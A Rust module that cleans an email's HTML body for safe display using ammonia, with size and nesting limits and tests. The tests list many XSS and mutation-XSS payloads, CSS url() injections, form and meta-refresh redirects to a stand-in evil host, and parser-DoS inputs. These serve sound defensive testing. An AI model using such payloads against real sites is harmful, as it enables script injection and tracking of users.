//! A mail's HTML body made safe to show: [`mail_html`] keeps its text
//! and formatting (paragraphs, lists, tables, fonts, colours, a bounded
//! set of inline style properties) and drops everything that could act
//! or fetch: scripts and their content, event handlers, `<meta>` (a
//! refresh), `<base>`, `<link>` (prefetch, stylesheets), `<style>`
//! sheets, forms and their fields, frames, objects and embeds, SVG and
//! MathML, comments, and every URL but an image's `data:` one.
//!
//! - **Links are inert**: an `<a>` keeps its text and loses its `href`
//!   (and `target`, `ping`): nothing to click, nothing to open, no
//!   referrer to leak. Links in a stranger's mail are phishing's tool;
//!   the mail's text body and its raw request show where they point.
//! - **Images**: a `data:` image (PNG, GIF, JPEG, WebP) is shown; a remote
//!   one or a `cid:` one (an inline attachment, listed among the
//!   attachments) is replaced by [`PLACEHOLDER`], so that a tracking
//!   pixel never tells the sender the mail was read, and the layout
//!   still shows where the image was.
//! - **Inline style**: only the properties in [`STYLE_PROPERTIES`], none
//!   of which takes a URL; a `style` attribute with `url(`, `image-set(`,
//!   `expression(`, `@import` or a CSS escape (`\`, which could spell
//!   them) is dropped whole.
//!
//! The sanitiser is [ammonia](https://docs.rs/ammonia) (an allowlist on
//! html5ever, the parser of Servo, which parses as browsers do, so that
//! what it keeps is what a browser would build): it walks the tree
//! without recursion, in time linear in the input. The console still
//! serves the result under a `sandbox` Content-Security-Policy in a
//! frame with an empty `sandbox` attribute: three locks, each enough to
//! keep a script from running.
//!
//! ```
//! use cmc_receiver::console::sanitize::mail_html;
//!
//! let shown = mail_html(
//!     "<p style=\"color: red\" onclick=\"steal()\">Hello <a href=\"https://evil.example/\">here</a>\
//!      <script>steal()</script><img src=\"https://tracker.example/p.gif\"></p>",
//! )
//! .unwrap();
//! assert!(shown.starts_with("<p style=\"color:red\">Hello <a>here</a><img src=\"data:image/svg+xml,"));
//! assert!(!shown.contains("steal") && !shown.contains("example"));
//! ```

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::LazyLock;

/// What a remote or `cid:` image shows instead: a grey box saying so.
pub const PLACEHOLDER: &str = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' \
     width='140' height='20'%3E%3Crect width='140' height='20' fill='%23eee' stroke='%23999'/%3E\
     %3Ctext x='6' y='14' font-family='sans-serif' font-size='11' fill='%23555'%3Eimage not \
     loaded%3C/text%3E%3C/svg%3E";

/// The inline style properties kept: text, colour, box and table layout.
/// None of them takes a URL (`background`, `background-image`,
/// `list-style`, `border-image`, `cursor`, `content`, `mask` and
/// `filter` can, and are left out), nor moves the box out of its place
/// (`position`).
pub const STYLE_PROPERTIES: &[&str] = &[
    "color",
    "background-color",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "font-variant",
    "line-height",
    "letter-spacing",
    "word-spacing",
    "text-align",
    "text-decoration",
    "text-indent",
    "text-transform",
    "white-space",
    "vertical-align",
    "direction",
    "display",
    "width",
    "min-width",
    "max-width",
    "height",
    "min-height",
    "max-height",
    "margin",
    "margin-top",
    "margin-right",
    "margin-bottom",
    "margin-left",
    "padding",
    "padding-top",
    "padding-right",
    "padding-bottom",
    "padding-left",
    "border",
    "border-top",
    "border-right",
    "border-bottom",
    "border-left",
    "border-color",
    "border-style",
    "border-width",
    "border-radius",
    "border-collapse",
    "border-spacing",
    "list-style-type",
    "table-layout",
];

/// The attributes that hold a URL (or a list of them), dropped wherever
/// they are; an image's `src` is the one exception (see [`mail_html`]).
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "cite",
    "longdesc",
    "action",
    "formaction",
    "usemap",
    "srcset",
    "poster",
    "background",
    "ping",
    "target",
    "xlink:href",
];

/// The `data:` images shown (not SVG: an image is safe in `<img>`, but
/// there is no need to widen what is let through).
const DATA_IMAGES: &[&str] = &[
    "data:image/png;",
    "data:image/gif;",
    "data:image/jpeg;",
    "data:image/jpg;",
    "data:image/webp;",
];

/// The text of a `style` attribute that makes it dropped whole.
const STYLE_REFUSED: &[&str] = &[
    "url(",
    "image-set(",
    "expression(",
    "@import",
    "\\",
    "<",
    "&",
];

fn attribute<'u>(element: &str, name: &str, value: &'u str) -> Option<Cow<'u, str>> {
    let lower = || value.trim().to_ascii_lowercase();
    match (element, name) {
        ("img", "src") => {
            let v = lower();
            if DATA_IMAGES.iter().any(|p| v.starts_with(p)) {
                Some(Cow::Borrowed(value))
            } else {
                Some(Cow::Borrowed(PLACEHOLDER))
            }
        }
        (_, "style") => {
            let v = lower();
            if STYLE_REFUSED.iter().any(|bad| v.contains(bad)) {
                None
            } else {
                Some(Cow::Borrowed(value))
            }
        }
        (_, name) if URL_ATTRIBUTES.contains(&name) => None,
        _ => Some(Cow::Borrowed(value)),
    }
}

static POLICY: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut b = ammonia::Builder::default();
    // Image maps link; SVG and MathML are not in ammonia's default tags
    // (nor is anything that acts: script, style, form, iframe, ...).
    b.rm_tags(["area", "map"])
        .add_tags(["font", "center", "big"])
        .add_generic_attributes(["style", "dir", "align"])
        .add_tag_attributes(
            "table",
            ["width", "border", "cellpadding", "cellspacing", "bgcolor"],
        )
        .add_tag_attributes("tr", ["bgcolor", "valign", "height"])
        .add_tag_attributes("td", ["width", "height", "bgcolor", "valign", "nowrap"])
        .add_tag_attributes("th", ["width", "height", "bgcolor", "valign", "nowrap"])
        .add_tag_attributes("col", ["width", "span"])
        .add_tag_attributes("colgroup", ["width", "span"])
        .add_tag_attributes("img", ["border", "title"])
        .add_tag_attributes("font", ["color", "face", "size"])
        // Every URL is checked here first; only an image's survives the
        // attribute filter below (a remote one as the placeholder).
        .url_schemes(HashSet::from(["http", "https", "cid", "data"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(None)
        .strip_comments(true)
        .filter_style_properties(STYLE_PROPERTIES.iter().copied().collect())
        .attribute_filter(attribute);
    b
});

/// The most bytes of HTML sanitised (a larger body is not shown).
pub const MAX_HTML: usize = 4 * 1024 * 1024;

/// The deepest a body's elements may nest (Chromium's parser stops
/// nesting at 512 too).
pub const MAX_DEPTH: usize = 512;

/// The most elements a body may build.
pub const MAX_ELEMENTS: usize = 200_000;

/// Why a body is not shown.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum Refused {
    /// Larger than [`MAX_HTML`] (its size in bytes).
    TooLarge(usize),
    /// Its elements nest deeper than [`MAX_DEPTH`].
    TooDeep,
    /// It builds more than [`MAX_ELEMENTS`] elements.
    TooManyElements,
}

impl std::fmt::Display for Refused {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Refused::TooLarge(n) => write!(
                f,
                "this HTML body is {n} bytes, more than the {MAX_HTML} shown"
            ),
            Refused::TooDeep => write!(
                f,
                "this HTML body nests its elements more than {MAX_DEPTH} deep"
            ),
            Refused::TooManyElements => {
                write!(f, "this HTML body builds more than {MAX_ELEMENTS} elements")
            }
        }
    }
}

impl std::error::Error for Refused {}

/// `html` (a stranger's mail's HTML body) as HTML that shows its text and
/// formatting and can neither run nor fetch anything (see the module's
/// documentation for the policy); refused when it is larger than
/// [`MAX_HTML`], nests deeper than [`MAX_DEPTH`] or builds more than
/// [`MAX_ELEMENTS`] elements. An HTML parser's tree building is
/// quadratic in the worst case (every tag looks through the open
/// elements; misnested formatting tags are cloned again and again), so
/// the body is first parsed by [`measure`], a kilobyte at a time, which
/// stops as soon as a bound is passed: the work is linear in the body's
/// length, and a body of 100 000 nested elements is refused in
/// milliseconds. U+0000 in text is dropped, as a browser drops it.
///
/// ```
/// use cmc_receiver::console::sanitize::{Refused, mail_html};
///
/// let deep = "<div>".repeat(100_000);
/// assert_eq!(mail_html(&deep), Err(Refused::TooDeep));
/// assert_eq!(mail_html("<b onclick=x()>hi</b>").unwrap(), "<b>hi</b>");
/// ```
pub fn mail_html(html: &str) -> Result<String, Refused> {
    measure(html)?;
    Ok(POLICY.clean(html).to_string())
}

/// Parses `html` as a browser would, building nothing but counting, a
/// kilobyte at a time; the first bound passed ends it.
pub fn measure(html: &str) -> Result<(), Refused> {
    use html5ever::tendril::TendrilSink;
    if html.len() > MAX_HTML {
        return Err(Refused::TooLarge(html.len()));
    }
    let counts = std::rc::Rc::new(guard::Counts::default());
    let mut parser = html5ever::parse_document(guard::Guard::new(&counts), Default::default());
    let mut rest = html;
    while !rest.is_empty() {
        let mut end = rest.len().min(1024);
        while !rest.is_char_boundary(end) {
            end += 1;
        }
        parser.process(rest[..end].into());
        rest = &rest[end..];
        counts.check()?;
    }
    parser.finish();
    counts.check()
}

/// A tree sink that builds no tree: it keeps each element's depth and
/// counts the elements.
mod guard {
    use std::borrow::Cow;
    use std::cell::{Cell, RefCell};
    use std::rc::Rc;

    use html5ever::interface::{ElementFlags, NodeOrText, QuirksMode, TreeSink};
    use html5ever::tendril::StrTendril;
    use html5ever::{Attribute, ExpandedName, QualName, local_name, ns};

    use super::{MAX_DEPTH, MAX_ELEMENTS, Refused};

    #[derive(Debug, Default)]
    pub(super) struct Counts {
        elements: Cell<usize>,
        depth: Cell<usize>,
    }

    impl Counts {
        pub(super) fn check(&self) -> Result<(), Refused> {
            if self.depth.get() > MAX_DEPTH {
                Err(Refused::TooDeep)
            } else if self.elements.get() > MAX_ELEMENTS {
                Err(Refused::TooManyElements)
            } else {
                Ok(())
            }
        }
    }

    #[derive(Debug)]
    pub(super) struct Node {
        name: QualName,
        depth: Cell<usize>,
        template: RefCell<Option<Handle>>,
    }

    pub(super) type Handle = Rc<Node>;

    fn node(name: QualName) -> Handle {
        Rc::new(Node {
            name,
            depth: Cell::new(0),
            template: RefCell::new(None),
        })
    }

    fn other() -> Handle {
        node(QualName::new(None, ns!(), local_name!("")))
    }

    pub(super) struct Guard {
        counts: Rc<Counts>,
        document: Handle,
    }

    impl Guard {
        pub(super) fn new(counts: &Rc<Counts>) -> Guard {
            Guard {
                counts: counts.clone(),
                document: other(),
            }
        }

        fn place(&self, child: &NodeOrText<Handle>, depth: usize) {
            if let NodeOrText::AppendNode(child) = child {
                child.depth.set(depth);
                if depth > self.counts.depth.get() {
                    self.counts.depth.set(depth);
                }
            }
        }
    }

    impl TreeSink for Guard {
        type Handle = Handle;
        type Output = ();
        type ElemName<'a> = ExpandedName<'a>;

        fn finish(self) {}
        fn parse_error(&self, _msg: Cow<'static, str>) {}
        fn get_document(&self) -> Handle {
            self.document.clone()
        }
        fn elem_name<'a>(&'a self, target: &'a Handle) -> ExpandedName<'a> {
            target.name.expanded()
        }
        fn create_element(&self, name: QualName, _: Vec<Attribute>, flags: ElementFlags) -> Handle {
            self.counts.elements.set(self.counts.elements.get() + 1);
            let element = node(name);
            if flags.template {
                *element.template.borrow_mut() = Some(other());
            }
            element
        }
        fn create_comment(&self, _: StrTendril) -> Handle {
            other()
        }
        fn create_pi(&self, _: StrTendril, _: StrTendril) -> Handle {
            other()
        }
        fn append(&self, parent: &Handle, child: NodeOrText<Handle>) {
            self.place(&child, parent.depth.get() + 1);
        }
        fn append_based_on_parent_node(
            &self,
            element: &Handle,
            prev_element: &Handle,
            child: NodeOrText<Handle>,
        ) {
            let depth = element.depth.get().max(prev_element.depth.get());
            self.place(&child, depth + 1);
        }
        fn append_doctype_to_document(&self, _: StrTendril, _: StrTendril, _: StrTendril) {}
        fn get_template_contents(&self, target: &Handle) -> Handle {
            let mut contents = target.template.borrow_mut();
            let contents = contents.get_or_insert_with(other);
            contents.depth.set(target.depth.get());
            contents.clone()
        }
        fn same_node(&self, x: &Handle, y: &Handle) -> bool {
            Rc::ptr_eq(x, y)
        }
        fn set_quirks_mode(&self, _: QuirksMode) {}
        fn append_before_sibling(&self, sibling: &Handle, new_node: NodeOrText<Handle>) {
            self.place(&new_node, sibling.depth.get());
        }
        fn add_attrs_if_missing(&self, _: &Handle, _: Vec<Attribute>) {}
        fn remove_from_parent(&self, _: &Handle) {}
        fn reparent_children(&self, _: &Handle, _: &Handle) {}
    }
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use super::*;

    /// The body as shown (refused in no test but the last ones).
    fn mail_html(html: &str) -> String {
        super::mail_html(html).unwrap_or_else(|e| panic!("{e}: {html}"))
    }

    /// The tags of `shown` with their attributes' values left out, and
    /// those values (ammonia writes every value in double quotes, with
    /// `"` as `&quot;`; a `<` in text is `&lt;`).
    fn markup(shown: &str) -> (String, String) {
        let (mut tags, mut values) = (String::new(), String::new());
        let (mut in_tag, mut in_value) = (false, false);
        for c in shown.chars() {
            match (in_tag, in_value, c) {
                (false, _, '<') => {
                    in_tag = true;
                    tags.push(c);
                }
                (true, false, '"') => in_value = true,
                (true, true, '"') => {
                    in_value = false;
                    values.push(' ');
                }
                (true, true, c) => values.push(c),
                (true, false, '>') => {
                    in_tag = false;
                    tags.push_str("> ");
                }
                (true, false, c) => tags.push(c),
                (false, _, _) => {}
            }
        }
        (tags.to_ascii_lowercase(), values.to_ascii_lowercase())
    }

    /// Asserts that `shown` has no element or attribute that could act
    /// or fetch, and no URL but a `data:` image's.
    fn assert_inert(shown: &str) {
        let (tags, values) = markup(shown);
        for bad in [
            "<script",
            "<meta",
            "<base",
            "<link",
            "<style",
            "<form",
            "<input",
            "<button",
            "<textarea",
            "<select",
            "<iframe",
            "<frame",
            "<object",
            "<embed",
            "<svg",
            "<math",
            "<video",
            "<audio",
            "<source",
            "<template",
            "<noscript",
            "<isindex",
            " on",
            "href",
            "target",
            "action",
            "ping",
            "srcset",
            "background=",
            "cite",
            "poster",
        ] {
            assert!(!tags.contains(bad), "{bad:?} in {shown}");
        }
        let values = values.replace(&PLACEHOLDER.to_ascii_lowercase(), "");
        for bad in [
            "javascript:",
            "http:",
            "https:",
            "//",
            "cid:",
            "url(",
            "expression",
            "evil",
        ] {
            assert!(!values.contains(bad), "{bad:?} in {shown}");
        }
    }

    #[test]
    fn scripts_handlers_and_their_urls_are_dropped() {
        for hostile in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<p onclick=\"alert(1)\" onmouseover=alert(2)>p</p>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\" java\tscript:alert(1)\">x</a>",
            "<body onload=alert(1)>b</body>",
            "<svg onload=alert(1)><circle r=1></circle></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">test",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<object data=\"https://evil.example/x.swf\"></object><embed src=https://evil.example/y>",
            "<iframe src=\"https://evil.example/\"></iframe><frameset><frame src=https://evil.example/>",
            "<video poster=https://evil.example/p.png><source src=https://evil.example/v.mp4></video>",
            "<details open ontoggle=alert(1)>d</details>",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<isindex action=https://evil.example/ type=image src=x onerror=alert(1)>",
        ] {
            let shown = mail_html(hostile);
            assert_inert(&shown);
        }
    }

    #[test]
    fn nothing_navigates_or_fetches_by_itself() {
        for hostile in [
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<head><meta http-equiv=refresh content=\"0; URL=https://evil.example/\"></head><p>x",
            "<base href=\"https://evil.example/\"><a href=\"/x\">rel</a><img src=\"/p.gif\">",
            "<a href=\"https://evil.example/\" target=\"_top\">top</a>",
            "<a href=https://evil.example/ target=_blank ping=https://evil.example/ping>b</a>",
            "<link rel=prefetch href=https://evil.example/>",
            "<link rel=dns-prefetch href=//evil.example>",
            "<link rel=stylesheet href=https://evil.example/s.css>",
            "<style>@import url(https://evil.example/s.css); body{background:url(https://evil.example/b)}</style>",
            "<form action=https://evil.example/ method=post><input name=a value=b>\
             <button formaction=https://evil.example/2>go</button></form><script>document.forms[0].submit()</script>",
            "<img src=\"https://evil.example/pixel.gif\" srcset=\"https://evil.example/2x.gif 2x\">",
            "<table background=\"https://evil.example/bg.png\"><tr><td background=https://evil.example/td>t</td></tr></table>",
            "<blockquote cite=https://evil.example/>q</blockquote>",
            "<img src=\"cid:part1@evil.example\">",
        ] {
            let shown = mail_html(hostile);
            assert_inert(&shown);
        }
        // A remote or cid: image shows the placeholder; a relative one is
        // dropped (it would be the console's own URL).
        assert_eq!(
            mail_html("<img src=\"https://evil.example/p.gif\" alt=\"logo\" width=\"10\">"),
            format!("<img src=\"{PLACEHOLDER}\" alt=\"logo\" width=\"10\">")
        );
        assert_eq!(
            mail_html("<img src=\"cid:logo@x\">"),
            format!("<img src=\"{PLACEHOLDER}\">")
        );
        assert_eq!(mail_html("<img src=\"/logout\" alt=a>"), "<img alt=\"a\">");
    }

    #[test]
    fn inline_style_keeps_its_safe_properties_and_never_a_url() {
        assert_eq!(
            mail_html("<p style=\"color: #c00; font-weight: bold; position: fixed\">x</p>"),
            "<p style=\"color:#c00;font-weight:bold\">x</p>"
        );
        for hostile in [
            "<p style=\"background: url(https://evil.example/b.png)\">x</p>",
            "<p style=\"background-image: url('https://evil.example/b.png')\">x</p>",
            "<p style=\"color: red; list-style: url(https://evil.example/l)\">x</p>",
            "<p style=\"color: red; background: u\\72 l(https://evil.example/e)\">x</p>",
            "<p style=\"width: expression(alert(1))\">x</p>",
            "<p style=\"color:red;/**/background:URL(https://evil.example/c)\">x</p>",
            "<p style=\"@import 'https://evil.example/i.css'\">x</p>",
            "<p style=\"border-image: url(https://evil.example/bi) 30\">x</p>",
            "<p style=\"cursor: url(https://evil.example/c.cur), auto\">x</p>",
            "<p style=\"font-family: x; background-image: image-set('https://evil.example/s' 1x)\">x</p>",
            "<p style=\"color:red\" STYLE=\"background:url(https://evil.example/d)\">x</p>",
        ] {
            let shown = mail_html(hostile);
            assert_inert(&shown);
            assert!(shown.contains(">x</p>"), "{shown}");
        }
    }

    #[test]
    fn formatting_and_data_images_are_kept() {
        let mail = "<table width=\"600\" cellpadding=\"4\" bgcolor=\"#ffffff\"><tr>\
                    <td align=\"center\" valign=\"top\"><font color=\"red\" face=\"Arial\">\
                    <b>Hello</b> <i>you</i></font></td></tr></table>\
                    <ul><li>one</li></ul><h1>T</h1><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"d\">";
        let shown = mail_html(mail);
        for kept in [
            "<table width=\"600\" cellpadding=\"4\" bgcolor=\"#ffffff\">",
            "<td align=\"center\" valign=\"top\">",
            "<font color=\"red\" face=\"Arial\"><b>Hello</b> <i>you</i></font>",
            "<ul><li>one</li></ul><h1>T</h1>",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"d\">",
        ] {
            assert!(shown.contains(kept), "{kept} not in {shown}");
        }
        // A link keeps its text, inert.
        assert_eq!(
            mail_html("<a href=\"https://example.com/\" title=\"t\">read</a>"),
            "<a title=\"t\">read</a>"
        );
        // An SVG data image is not shown as such.
        assert_eq!(
            mail_html("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">"),
            format!("<img src=\"{PLACEHOLDER}\">")
        );
    }

    #[test]
    fn text_is_kept_escaped_and_nul_replaced() {
        assert_eq!(
            mail_html("a\u{0}b &lt;script&gt; <b>\u{202e}x</b>"),
            "ab &lt;script&gt; <b>\u{202e}x</b>"
        );
    }

    /// Runs `f` on a thread with a small stack (a recursion would
    /// overflow it), and times it.
    fn small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> (T, Duration) {
        std::thread::Builder::new()
            .stack_size(256 * 1024)
            .spawn(move || {
                let started = Instant::now();
                let out = f();
                (out, started.elapsed())
            })
            .unwrap()
            .join()
            .expect("no stack overflow")
    }

    #[test]
    fn deep_or_exploding_bodies_are_refused_fast_and_large_ones_measured_linearly() {
        // 1 MB: 100 000 nested <div>s (an HTML parser takes minutes to
        // build them: each tag looks through every open element).
        let deep = format!("{}x{}", "<div>".repeat(100_000), "</div>".repeat(100_000));
        let (refused, took) = small_stack(move || super::mail_html(&deep));
        assert_eq!(refused, Err(Refused::TooDeep));
        assert!(took < Duration::from_secs(2), "{took:?}");
        // Misnested formatting tags, each cloned again inside every later
        // element: 70 KB that would build 5 million elements.
        let exploding: String = (0..3_333)
            .map(|i| format!("<div><b id={i}></div>"))
            .collect::<String>()
            + "x";
        let (refused, took) = small_stack(move || super::mail_html(&exploding));
        assert!(
            matches!(refused, Err(Refused::TooManyElements | Refused::TooDeep)),
            "{refused:?}"
        );
        assert!(took < Duration::from_secs(2), "{took:?}");
        // Many elements side by side.
        let wide = "<i>x</i>".repeat(MAX_ELEMENTS + 1);
        assert_eq!(super::mail_html(&wide), Err(Refused::TooManyElements));
        // Within the bounds: shown.
        let nested = format!("{}x{}", "<div>".repeat(500), "</div>".repeat(500));
        assert!(mail_html(&nested).starts_with("<div><div>"));
        // Too large: refused before any parsing.
        let large = "x".repeat(MAX_HTML + 1);
        assert_eq!(
            super::mail_html(&large),
            Err(Refused::TooLarge(MAX_HTML + 1))
        );
        // Linear: a megabyte of flat elements, and one of paragraphs
        // nested 400 deep a time, take about as long per byte.
        let flat = "<p>x</p>".repeat(125_000);
        let layered = format!("{}x{}", "<span>".repeat(400), "</span>".repeat(400)).repeat(170);
        let (a, flat_took) = small_stack(move || super::measure(&flat));
        let (b, layered_took) = small_stack(move || super::measure(&layered));
        assert_eq!((a, b), (Ok(()), Ok(())));
        assert!(
            layered_took < flat_took * 20 + Duration::from_millis(500),
            "layered {layered_took:?}, flat {flat_took:?}"
        );
    }
}
